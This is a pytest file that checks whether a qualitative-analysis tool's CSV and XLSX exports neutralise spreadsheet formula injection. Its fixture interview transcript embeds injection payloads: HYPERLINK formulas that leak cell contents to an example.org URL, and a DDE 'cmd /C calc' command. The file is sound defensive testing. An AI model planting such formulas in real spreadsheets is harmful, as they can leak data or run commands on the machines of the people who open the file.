"""Issue 21.2: a respondent's formula is inert in every CSV and XLSX export, header included, and
characters XML forbids do not break a workbook; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook
from sqlalchemy import select

from analysis import Project
from analysis.exchange.cells import FORMULA_START, inert
from analysis.quotes import export_bytes
from analysis.store import Coding, Segment

HYPERLINK = '=HYPERLINK("http://example.org/?leak="&A1,"klik")'
COLLEGE = '=HYPERLINK("http://example.org/?c="&B2,"ROC")'
TRANSCRIPT = f"""---
institution: '{COLLEGE}'
---
Interviewer: Wat stond er in die mail van de student?

Kees Bakker: {HYPERLINK} stond erin, letterlijk. Ik heb hem niet aangeklikt natuurlijk.

Interviewer: En daarna?

Kees Bakker: +cmd|' /C calc'!A0 was de volgende regel. Rare dingen krijg je soms binnen.

Interviewer: Nog iets?

Kees Bakker: @SUM(A1:A9) en -2+3 stonden er ook in. Wij hebben het bij de ICT gemeld.

Interviewer: Een laatste vraag.

Kees Bakker: Dat teken \ufffe en ook \uffff zaten in de bijlage, heel vreemd bestand was dat.
"""


def _project(project: Project, tmp_path: Path) -> Project:
    path = tmp_path / "bakker.txt"
    path.write_text(TRANSCRIPT, encoding="utf-8")
    [result] = project.ingest([path])
    assert result.status == "imported", result.line()
    with project.store.session() as session:
        for segment_id in session.scalars(select(Segment.id)):
            session.add(Coding(segment_id=segment_id, code_key="impact.student", coder="anna",
                               origin="manual", status="accepted"))
    return project


def _live_csv_cells(data: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(data)))
    assert len(rows) > 1
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)
            and not cell.lstrip("+-").replace(".", "").isdigit()]


def test_csv_exports_neutralise_formulas_headers_included(
    empty_project: Project, tmp_path: Path
) -> None:
    project = _project(empty_project, tmp_path)
    for what in ("segments", "quotes", "matrix"):
        out = tmp_path / f"{what}.csv"
        project.export_table(what, out, "csv")
        data = out.read_text(encoding="utf-8")
        assert _live_csv_cells(data) == [], what
        quoted = [("'" + text).replace('"', '""') for text in (HYPERLINK, COLLEGE)]
        assert any(text in data for text in quoted), what
    matrix = pd.read_csv(tmp_path / "matrix.csv")
    assert "'" + COLLEGE in matrix.columns  # the college is a header: neutralised too
    assert pd.api.types.is_integer_dtype(matrix["'" + COLLEGE])  # counts stay numbers


def test_quote_browser_download_neutralises_formulas(
    empty_project: Project, tmp_path: Path
) -> None:
    project = _project(empty_project, tmp_path)
    selection = project.segments()
    for frame in (selection, project.pseudonymise_quotes(selection)):
        data = export_bytes(frame, "csv").decode("utf-8-sig")
        assert _live_csv_cells(data) == []
        sheet = load_workbook(io.BytesIO(export_bytes(frame, "xlsx"))).active
        assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert f"'{HYPERLINK}".replace('"', '""') in export_bytes(selection, "csv").decode("utf-8-sig")


def test_workbooks_hold_formulas_as_text_and_survive_noncharacters(
    empty_project: Project, tmp_path: Path
) -> None:
    project = _project(empty_project, tmp_path)
    out = tmp_path / "tabellen.xlsx"
    project.export_table("tables", out, "xlsx")
    book = load_workbook(out)
    formulas = [
        (sheet.title, cell.coordinate)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    headers = [c.value for c in book["Matrix"][1]] if "Matrix" in book.sheetnames else []
    texts = [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert COLLEGE in headers or COLLEGE in texts
    assert any(isinstance(v, str) and v.startswith(HYPERLINK) for v in texts)
    assert not any(isinstance(v, str) and ("\ufffe" in v or "\uffff" in v) for v in texts)
    for what in ("segments", "quotes", "matrix", "cooccurrence"):
        project.export_table(what, tmp_path / f"{what}.xlsx", "xlsx")


def test_numbers_and_number_like_text_are_left_alone() -> None:
    assert inert(-3) == -3 and inert(-2.5) == -2.5
    assert inert("-2") == "-2" and inert("+31,5") == "+31,5"
    assert inert("-2+3") == "'-2+3"
    assert inert("@SUM(A1)") == "'@SUM(A1)" and inert("\tx") == "'\tx" and inert("\rx") == "'\rx"
    assert inert("Ja, =gewoon") == "Ja, =gewoon"
